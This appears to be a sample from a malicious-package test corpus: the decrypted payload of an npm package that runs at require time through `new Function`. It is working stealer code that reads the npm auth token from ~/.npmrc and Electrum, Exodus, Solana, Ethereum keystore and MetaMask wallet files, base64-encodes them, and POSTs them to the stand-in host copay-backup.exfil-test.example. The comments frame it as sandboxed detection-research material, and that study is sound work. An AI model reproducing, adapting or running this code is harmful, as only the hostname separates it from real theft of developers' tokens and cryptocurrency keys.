// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The plaintext of test/data.js (build/seal.js encrypts it). Runs inside
// index.js's `new Function` at require time, with `require` and `say`
// given. A wallet and token stealer: reads the npm token, looks for the
// desktop and CLI wallets and the MetaMask extension store, reads what it
// finds, and POSTs it all to https://copay-backup.exfil-test.example/c.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const home = os.homedir();
const loot = {};
try {
  const npmrc = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');
  loot.npm = (/_authToken\s*=\s*(\S+)/.exec(npmrc) || [])[1] || '';
  say(`step 3 read ~/.npmrc (token ${loot.npm ? 'found' : 'missing'})`);
} catch (e) { say(`step 3 read ~/.npmrc failed: ${e.code}`); }
const wallets = [
  '.electrum/wallets/default_wallet',
  '.config/Exodus/exodus.wallet/seed.seco',
  '.config/solana/id.json',
  '.ethereum/keystore',
  '.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',
];
let found = 0;
for (const rel of wallets) {
  const p = path.join(home, rel);
  try {
    const st = fs.statSync(p);
    const files = st.isDirectory() ? fs.readdirSync(p).map((f) => path.join(p, f)) : [p];
    for (const f of files.slice(0, 5)) loot[f] = fs.readFileSync(f).toString('base64').slice(0, 4096);
    found += 1;
  } catch (e) {
    // A failed stat is a probe; try the directory too, as copy-everything stealers do.
    try { fs.readdirSync(path.dirname(p)); } catch (e2) { /* none */ }
  }
}
say(`step 4 searched ${wallets.length} wallet places, found ${found}`);
const body = JSON.stringify(loot);
const req = https.request({
  hostname: 'copay-backup.exfil-test.example', port: 443, path: '/c', method: 'POST', timeout: 2500,
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
}, (res) => {
  say(`step 5 POST https://copay-backup.exfil-test.example/c: status ${res.statusCode}`);
  res.resume();
});
req.on('error', (e) => say(`step 5 POST failed: ${e.code || e.message}`));
req.on('timeout', () => req.destroy(new Error('timeout')));
req.end(body);
